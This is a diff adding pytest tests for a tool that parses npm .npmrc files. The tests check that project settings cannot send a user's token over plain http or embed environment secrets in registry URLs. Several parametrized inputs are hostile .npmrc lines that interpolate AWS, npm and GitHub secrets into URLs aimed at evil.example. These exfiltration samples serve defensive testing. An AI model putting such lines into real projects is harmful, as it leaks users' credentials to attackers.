@@ -185,6 +185,59 @@ def test_in_clear_only_where_the_registry_is() -> None:
     assert authorization(project(token), "http://127.0.0.1:8080/x") == "Bearer local"
 
 
+@pytest.mark.spec("NPM-22")
+@pytest.mark.parametrize("line", ["registry=http://r.example/npm/", "@a:registry=http://r.example/"])
+def test_a_project_cannot_have_the_users_credential_sent_in_clear(line: str) -> None:
+    url, token = "http://r.example/npm/x", "//r.example/:_authToken=secret\n"
+    found = settings({USER: token, PROJECT: line})
+    assert authorization(found, url) is None
+    assert authorization(found, "https://r.example/npm/x") == "Bearer secret"
+    assert [note for note in found.notes if "is not sent in clear" in note and "secret" not in note] == [*found.notes]
+    assert found.notes
+    said_by_user = settings({USER: token + line, PROJECT: ""})
+    assert authorization(said_by_user, url) == "Bearer secret"
+    assert said_by_user.notes == ()
+    halves = settings({USER: "//r.example/:_password=c2VjcmV0", PROJECT: f"{line}\n//r.example/:username=me"})
+    assert authorization(halves, url) is None
+
+
+@pytest.mark.spec("NPM-25")
+@pytest.mark.parametrize(
+    "line",
+    [
+        "registry=https://evil.example/${AWS_SECRET_ACCESS_KEY}",
+        "registry=https://${NPM_TOKEN}.evil.example/",
+        "@a:registry=https://evil.example/?x=${GITHUB_PAT}",
+        "registry=https://evil.example/${NPM_TOKEN?}@x",
+        "registry=https://me:hunter2@evil.example/${NPM_TOKEN}",
+        "registry=https://x:${NPM_TOKEN}/@evil.example/",
+        "@${NPM_TOKEN}:registry=https://evil.example/",
+    ],
+)
+def test_a_project_cannot_put_the_users_secrets_into_urls(line: str) -> None:
+    secrets = {"AWS_SECRET_ACCESS_KEY": "s3cret", "NPM_TOKEN": "s3cret", "GITHUB_PAT": "s3cret"}
+    with pytest.raises(UsageError, match=r"would put `[A-Z_]+` of the environment into a URL") as caught:
+        project(line, **secrets)
+    told = (str(caught.value), *caught.value.details, caught.value.hint or "")
+    assert not any("s3cret" in text or "hunter2" in text for text in told)
+
+
+@pytest.mark.spec("NPM-25")
+def test_what_a_project_takes_from_the_environment_is_told() -> None:
+    found = project(
+        "//r.example/:_authToken=${NPM_TOKEN}\nregistry=https://${HOST}/", NPM_TOKEN="s3cret", HOST="h.example"
+    )
+    assert found.told == (
+        "`registry` in the project's .npmrc is made of `HOST` of the environment",
+        "the project's .npmrc sends `NPM_TOKEN` of the environment to `//r.example/`",
+    )
+    userinfo = project("registry=https://me:${NPM_TOKEN}@r.example/", NPM_TOKEN="s3cret")
+    assert authorization(userinfo, "https://r.example/x") is not None
+    assert userinfo.told == ("`registry` in the project's .npmrc is made of `NPM_TOKEN` of the environment",)
+    assert settings({USER: "//r.example/:_authToken=${NPM_TOKEN}"}, NPM_TOKEN="s3cret").told == ()
+    assert project("//r.example/:_authToken=literal").told == ()
+
+
 @pytest.mark.spec("NPM-23")
 @pytest.mark.parametrize(
     ("line", "told"),
